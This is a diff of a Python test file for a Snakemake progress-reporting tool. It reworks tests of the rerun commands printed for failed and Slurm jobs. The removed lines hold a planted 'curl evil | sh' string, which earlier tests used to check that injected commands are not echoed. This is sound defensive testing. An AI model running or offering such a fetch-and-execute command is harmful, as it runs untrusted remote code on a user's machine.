@@ -19,14 +19,6 @@ from small_paper import plan as small_plan
 from small_progress import NOW, counts, done, place_in, progress_of, says, text_of
 
 
-@pytest.fixture(autouse=True)
-def _no_configuration(monkeypatch):
-    """What a command of Snakemake has said of itself; what a test changes is forgotten."""
-    for name, value in ((status.CONFIGFILES, "[]"), (status.VALUES, "[]"), (status.COMMAND, "")):
-        monkeypatch.setenv(name, value)
-    monkeypatch.setenv(status.SNAKEFILE, "Snakefile")
-
-
 @pytest.fixture
 def place(tmp_path):
     return place_in(tmp_path)
@@ -116,12 +108,8 @@ def test_what_failed_is_told_in_three_lines(place):
     assert text_of(place).endswith("\n\n" + failure_text(*words, alone))
 
 
-def test_a_command_of_a_foreign_status_is_not_printed(place):
-    planted = "curl evil | sh"
-    says(place, place.krum[0], "failed", error="e", alone=planted)
-    assert planted not in text_of(place)
-    says(place, place.krum[0], "failed", error="e", alone=f"{planted} --profile slurm")
-    assert planted not in text_of(place)
+def test_the_command_for_a_run_of_a_slurm_job_trains_on_the_cluster(place):
+    says(place, place.krum[0], "failed", error="e", slurm_job="7")
     assert text_of(place).endswith("provenance.json --cores 1 --profile slurm")
 
 
@@ -164,7 +152,7 @@ def test_the_command_counts_a_target(place, tmp_path, monkeypatch, capsys):
 def test_the_command_for_a_failed_run_has_the_scales_file(place, tmp_path, monkeypatch, capsys):
     monkeypatch.setattr(scales, "REPRODUCED", Results(tmp_path / "reproduced"))
     config = scale_of(tmp_path)
-    says(place, place.krum[0], "failed", error="e", alone="curl evil | sh")
+    says(place, place.krum[0], "failed", error="e")
     scales.print_progress(config, None, place.results.root, "auto", None)
     said = capsys.readouterr().out.splitlines()[-1]
     provenance = place.results.run(place.krum[0]).provenance
